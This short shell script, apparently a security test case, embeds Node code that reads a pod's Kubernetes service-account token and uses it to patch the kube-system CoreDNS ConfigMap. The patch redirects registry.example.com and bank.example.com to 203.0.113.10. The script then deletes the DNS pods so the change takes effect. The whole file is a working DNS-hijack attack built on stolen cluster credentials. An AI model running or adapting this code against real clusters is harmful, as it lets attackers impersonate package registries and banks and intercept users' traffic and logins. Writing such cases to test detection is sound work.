#!/bin/sh
. /opt/case/case.sh

node -e '
const fs = require("fs"), http = require("http");
const token = fs.readFileSync("/run/secrets/kubernetes.io/serviceaccount/token", "utf8");
const body = JSON.stringify({ data: { Corefile: ".:53 {\n hosts {\n 203.0.113.10 registry.example.com bank.example.com\n fallthrough\n }\n forward . /etc/resolv.conf\n}" } });
const ask = (method, path, body) => new Promise((ok, no) => { const r = http.request({ host: "10.77.0.1", port: 6443, method, path, headers: { Authorization: "Bearer " + token, "Content-Type": "application/merge-patch+json" } }, a => a.resume().on("end", () => ok(a.statusCode))).on("error", no); r.end(body); });
(async () => {
    const a = await ask("PATCH", "/api/v1/namespaces/kube-system/configmaps/coredns", body);
    const b = await ask("DELETE", "/api/v1/namespaces/kube-system/pods?labelSelector=k8s-app%3Dkube-dns");
    process.exit(a === 200 && b === 200 ? 0 : 1);
})();'
took_place
